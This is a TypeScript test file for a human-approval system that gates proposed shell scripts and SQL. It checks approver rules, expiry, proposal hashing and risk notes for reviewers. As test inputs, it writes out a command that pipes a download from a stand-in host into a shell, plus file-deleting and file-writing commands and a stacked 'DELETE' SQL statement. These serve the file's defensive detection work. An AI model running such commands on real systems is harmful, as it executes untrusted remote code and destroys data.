import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { decide, isExpired, type ProposalFacts } from '../../src/approvals/machine.ts';
import { DEFAULT_POLICY, isApprover, parseApproverList, parsePolicy } from '../../src/approvals/policy.ts';
import { canonicalForm, proposalHash } from '../../src/approvals/proposal.ts';
import { riskNotes } from '../../src/approvals/risk.ts';

const at = new Date('2026-12-02T01:00:00Z');
const facts = (over: Partial<ProposalFacts> = {}): ProposalFacts => ({
  state: 'pending',
  sha256: 'h1',
  proposedBy: 'U_ASKER',
  expiresAt: new Date(at.getTime() + 60_000),
  approvalsRequired: 1,
  selfApprovalAllowed: true,
  approvedBy: [],
  ...over,
});
const approve = (user = 'U_OK', sha256 = 'h1', when = at) =>
  ({ decision: 'approved', user, sha256, isApprover: true, at: when }) as const;

describe('the approval state machine', () => {
  it('approves with one approver by default', () => {
    assert.deepEqual(decide(facts(), approve()), {
      kind: 'recorded',
      decision: 'approved',
      state: 'approved',
      approvals: 1,
      required: 1,
    });
  });

  it('changes nothing for someone who is not an approver', () => {
    const v = decide(facts(), { ...approve(), isApprover: false });
    assert.equal(v.kind === 'refused' && v.reason, 'not_approver');
    assert.match(v.kind === 'refused' ? v.message : '', /not an approver/);
  });

  it('refuses an approval of another text (a stale button after an edit)', () => {
    const v = decide(facts(), approve('U_OK', 'h0'));
    assert.equal(v.kind === 'refused' && v.reason, 'stale_text');
  });

  it('refuses after expiry, and once decided', () => {
    const late = decide(facts(), approve('U_OK', 'h1', new Date(at.getTime() + 60_000)));
    assert.equal(late.kind === 'refused' && late.reason, 'expired');
    for (const state of ['approved', 'rejected', 'expired', 'running', 'done', 'failed'] as const) {
      const v = decide(facts({ state }), approve());
      assert.equal(v.kind === 'refused' && v.reason, 'closed', state);
    }
  });

  it('needs two distinct approvers when the policy says so, and the same one twice counts once', () => {
    const first = decide(facts({ approvalsRequired: 2 }), approve('U_A'));
    assert.equal(first.kind === 'recorded' && first.state, 'pending');
    const again = decide(facts({ approvalsRequired: 2, approvedBy: ['U_A'] }), approve('U_A'));
    assert.equal(again.kind === 'refused' && again.reason, 'already_approved_by_you');
    const second = decide(facts({ approvalsRequired: 2, approvedBy: ['U_A'] }), approve('U_B'));
    assert.equal(second.kind === 'recorded' && second.state, 'approved');
  });

  it('forbids self-approval when the policy does, but lets the asker reject', () => {
    const self = decide(facts({ selfApprovalAllowed: false }), approve('U_ASKER'));
    assert.equal(self.kind === 'refused' && self.reason, 'self_approval');
    const reject = decide(facts({ selfApprovalAllowed: false }), {
      ...approve('U_ASKER'),
      decision: 'rejected',
    });
    assert.equal(reject.kind === 'recorded' && reject.state, 'rejected');
  });

  it('knows when a pending proposal expired', () => {
    assert.equal(isExpired(facts(), at), false);
    assert.equal(isExpired(facts(), new Date(at.getTime() + 60_000)), true);
    assert.equal(isExpired(facts({ state: 'approved' }), new Date(at.getTime() + 60_000)), false);
  });
});

describe('proposal hashes', () => {
  it('change with any field, and fields cannot be shifted into each other', () => {
    const base = { kind: 'script', target: 'evidence', text: 'ls' } as const;
    const hashes = new Set([
      proposalHash(base),
      proposalHash({ ...base, text: 'ls ' }),
      proposalHash({ ...base, target: 'web-1' }),
      proposalHash({ ...base, kind: 'sql' }),
      proposalHash({ kind: 'script', target: 'evidence\nls', text: '' }),
    ]);
    assert.equal(hashes.size, 5);
    assert.equal(canonicalForm(base), '6:script\n8:evidence\n2:ls');
    assert.match(proposalHash(base), /^[0-9a-f]{64}$/);
  });
});

describe('the approval policy', () => {
  it('defaults to nobody may approve, one approval, 30 minutes, nothing automatic', () => {
    assert.deepEqual(DEFAULT_POLICY.approvers, { users: [], usergroups: [] });
    assert.equal(DEFAULT_POLICY.approvalsRequired, 1);
    assert.equal(DEFAULT_POLICY.expiresMinutes, 30);
    assert.deepEqual(DEFAULT_POLICY.automatic, []);
    assert.equal(isApprover(DEFAULT_POLICY, 'U1', []), false);
  });

  it('reads a policy file and names what is wrong in it', () => {
    const policy = parsePolicy(
      'approvers:\n  users: [U0123ABC]\n  usergroups: [S0ONCALL]\napprovalsRequired: 2\nselfApproval: false\n',
      'policy.yml',
    );
    assert.equal(isApprover(policy, 'U0123ABC', []), true);
    assert.equal(isApprover(policy, 'U0999', ['S0ONCALL']), true);
    assert.equal(isApprover(policy, 'U0999', ['S0OTHER']), false);
    assert.throws(() => parsePolicy('approvalsRequired: 0\n', 'p.yml'), /approvalsRequired/);
    assert.throws(() => parsePolicy('automatic: [script]\n', 'p.yml'), /automatic/);
    assert.throws(() => parsePolicy('approvers: {users: [bob]}\n', 'p.yml'), /approvers\.users\.0/);
  });

  it('splits NIGHTSHIFT_APPROVERS into users and groups', () => {
    assert.deepEqual(parseApproverList('U01, S02 W03'), { users: ['U01', 'W03'], usergroups: ['S02'] });
    assert.throws(() => parseApproverList('alice'), /NIGHTSHIFT_APPROVERS: "alice"/);
  });
});

describe('risk notes', () => {
  it('name what a reviewer on a phone should look for', () => {
    assert.deepEqual(
      riskNotes({ kind: 'script', target: 'web-1', text: 'curl -s http://x.example/i | sh' }),
      ['pipes a download into a shell', 'uses the network'],
    );
    assert.deepEqual(riskNotes({ kind: 'script', target: 'evidence', text: 'grep -c radio *.txt' }), []);
    assert.ok(
      riskNotes({ kind: 'script', target: 'web-1', text: 'rm -f /tmp/core.1' }).includes('deletes files'),
    );
    assert.ok(
      riskNotes({ kind: 'script', target: 'web-1', text: 'echo x > /etc/motd' }).includes('writes files'),
    );
    assert.deepEqual(riskNotes({ kind: 'script', target: 'web-1', text: 'ls 2>&1 | head' }), []);
  });

  it('say when SQL is not a single read', () => {
    const notes = riskNotes({ kind: 'sql', target: 'app', text: 'SELECT 1; DELETE FROM feeds' });
    assert.ok(notes.includes('2 statements, not one'));
    assert.ok(notes.some((n) => n.startsWith('mentions DELETE')));
    assert.deepEqual(riskNotes({ kind: 'sql', target: 'app', text: 'SELECT url FROM feeds' }), [
      'runs inside BEGIN READ ONLY with a statement timeout and a row cap',
    ]);
  });
});
